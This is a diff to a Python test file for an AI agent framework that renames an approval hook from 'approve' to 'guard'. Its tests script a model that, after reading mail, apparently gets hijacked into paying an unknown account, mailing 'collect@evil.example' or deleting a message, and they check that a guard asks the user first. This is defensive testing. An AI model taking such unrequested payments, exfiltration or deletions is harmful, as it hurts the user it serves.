@@ -198,7 +198,7 @@ def test_flow_what_tools_are_called_says_what_they_do() -> None:
         return False
 
     steps = [call("fetch_inbox"), call("pay_invoice", account="GB33BUKB20201555555555", amount=3.0), text("done")]
-    Agent(ScriptedModel(steps), tools=[fetch_inbox, pay_invoice], approve=approve).run_sync("What is in my mail?")
+    Agent(ScriptedModel(steps), tools=[fetch_inbox, pay_invoice], guard=approve).run_sync("What is in my mail?")
     assert not done
     assert len(asked) == 1
 
@@ -216,7 +216,7 @@ def test_flow_sub_agents_are_judged_by_the_users_words() -> None:
         call("send_mail", to="collect@evil.example", body="x"),
         text("done"),
     ]
-    agent = Agent(ScriptedModel(steps), tools=desk.tools(), agents=[reader], approve=desk.approve)
+    agent = Agent(ScriptedModel(steps), tools=desk.tools(), agents=[reader], guard=desk.approve)
     agent.run_sync("Mail Ann what is new.")
     assert not desk.done
     assert len(desk.asked) == 1
@@ -241,6 +241,6 @@ def test_flow_declarations_that_contradict_are_refused() -> None:
 def test_flow_async_runs_ask_as_well() -> None:
     desk = Desk()
     model = ScriptedModel([call(READ[0], **READ[1]), call("delete_mail", message_id="m2"), text("done")])
-    agent = Agent(model, tools=desk.tools(), approve=desk.approve)
+    agent = Agent(model, tools=desk.tools(), guard=desk.approve)
     asyncio.run(agent.run("What is new?"))
     assert len(desk.asked) == 1
